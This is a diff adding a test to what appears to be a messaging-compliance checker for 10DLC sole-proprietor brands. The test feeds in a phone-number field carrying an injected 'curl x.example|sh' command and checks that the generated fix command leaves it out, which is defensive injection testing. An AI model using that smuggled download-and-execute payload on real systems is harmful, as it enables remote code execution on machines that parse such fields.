@@ -68,6 +68,14 @@ def test_a_sole_proprietor_brand_unverified_and_with_two_numbers():
     assert run(checks.brand, *facts(numbers=[LONG1], brand={**sole, "identity_status": "SELF_DECLARED"})) == []
 
 
+def test_a_fix_names_no_number_that_is_not_one():
+    sole = {**APPROVED, "brand_type": "SOLE_PROPRIETOR", "identity_status": "VERIFIED"}
+    hostile = number("PN" + "2" * 32, "+1501;curl x.example|sh")
+    assert run(checks.brand, *facts(numbers=[LONG1, hostile], brand=sole)) == [
+        ("error", "10dlc-sole-proprietor-numbers", f"us_long_codes=2 allowed=1 brand={BN}",
+         f"msgsvc numbers detach {SERVICE_SID} NUMBER")]
+
+
 def test_the_pool_at_380_of_400():
     many = [number("PN%032x" % i, f"+1501{i:07d}") for i in range(379)]
     assert run(checks.pool, *facts(numbers=many, short_codes=[SHORT])) == [
